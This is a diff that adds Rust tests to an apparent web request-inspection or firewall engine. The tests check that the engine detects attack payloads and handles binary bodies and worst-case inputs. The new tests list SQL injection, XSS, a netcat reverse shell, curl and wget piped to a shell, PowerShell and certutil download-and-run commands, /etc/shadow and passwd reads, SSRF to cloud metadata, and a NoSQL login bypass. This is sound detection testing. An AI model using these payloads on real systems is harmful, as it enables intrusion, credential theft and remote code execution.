@@ -166,6 +166,24 @@ fn one_hit_per_class_and_excerpt_bounded() {
 }
 
 #[test]
+fn binary_bodies_are_skipped() {
+    let hits = run(
+        "POST",
+        "/upload",
+        &[("content-type", "image/png")],
+        "\u{89}PNG ' or 1=1-- <script>",
+    );
+    assert!(hits.is_empty(), "{hits:?}");
+    let hits = run(
+        "POST",
+        "/upload",
+        &[("content-type", "text/plain")],
+        "' or 1=1--",
+    );
+    assert!(!hits.is_empty());
+}
+
+#[test]
 fn truncated_and_invalid_bodies() {
     let body = b"{\"a\": \"<script>alert(1)</scr\xc3";
     let h: BTreeMap<String, String> = BTreeMap::new();
@@ -216,6 +234,16 @@ fn work_is_linear() {
         unit("/*"),
         unit("{,"),
         unit("\\"),
+        unit("http:"),
+        unit("bin/"),
+        unit("`a"),
+        unit("${a"),
+        unit("< a "),
+        unit(" oa"),
+        unit("a:"),
+        unit("--"),
+        unit("<![CDATA["),
+        unit("<a b=\""),
     ];
     let mut worst = 0;
     for body in &cases {
@@ -287,5 +315,68 @@ mod prop {
             let scope = Attack::ALL.iter().fold(Scope::none(), |s, a| Part::ALL.iter().fold(s, |s, p| s.with(*a, *p)));
             inspect(&req, &scope, &mut hits);
         }
+    }
+}
+
+/// Attacks written for this test, not taken from CRS: the rules should generalize.
+#[test]
+fn variants_beyond_the_corpus() {
+    use Attack::*;
+    let cases: &[(&str, Attack)] = &[
+        ("1' AND SLEEP(5)#", SqlInjection),
+        ("x\" or \"a\"=\"a", SqlInjection),
+        (
+            "1 AND 1=2 UNION ALL SELECT username, password FROM users--",
+            SqlInjection,
+        ),
+        ("'; EXEC xp_cmdshell 'dir'--", SqlInjection),
+        ("1)) OR 2>1--", SqlInjection),
+        ("\"><svg onload=alert(1)>", Xss),
+        ("<iframe src=\"javascript:alert(1)\">", Xss),
+        ("<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", Xss),
+        ("%253Cscript%253Ealert(1)%253C%252Fscript%253E", Xss),
+        ("<details open ontoggle=confirm(1)>", Xss),
+        (";nc -e /bin/sh 10.0.0.1 4444", OsCommandInjection),
+        ("a|wget http://x.example/s.sh -O- |sh", OsCommandInjection),
+        ("$(curl x.example|bash)", OsCommandInjection),
+        ("1;${IFS}cat${IFS}/etc/shadow", OsCommandInjection),
+        (
+            "| powershell -c iex(new-object net.webclient).downloadstring('http://x')",
+            WindowsCommandInjection,
+        ),
+        (
+            "& certutil -urlcache -split -f http://x.example/a.exe a.exe",
+            WindowsCommandInjection,
+        ),
+        ("..%252f..%252f..%252fetc%252fpasswd", FileInclusion),
+        ("....//....//windows/win.ini", FileInclusion),
+        ("/proc/self/environ", FileInclusion),
+        ("http://[::ffff:169.254.169.254]/latest/", Ssrf),
+        ("http://0251.0376.0251.0376/", Ssrf),
+        ("dict://127.0.0.1:6379/info", Ssrf),
+    ];
+    let mut missed = Vec::new();
+    for (payload, attack) in cases {
+        if !q(payload).contains(attack) {
+            missed.push(format!("{attack:?}: {payload}"));
+        }
+    }
+    let json = run(
+        "POST",
+        "/login",
+        &[("content-type", "application/json")],
+        r#"{"username":{"$regex":".*"},"password":{"$ne":null}}"#,
+    );
+    if !json.iter().any(|h| h.attack == NoSqlInjection) {
+        missed.push("NoSql: $regex in JSON".into());
+    }
+    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+}
+
+#[test]
+fn keywords_fit_the_tokenizer_shortcut() {
+    // `sql_lex::word_kind` skips lookups for words longer than 9 bytes.
+    for t in super::sql::tables().iter().take(3) {
+        assert!(t.iter().all(|w| w.len() <= 9), "{t:?}");
     }
 }
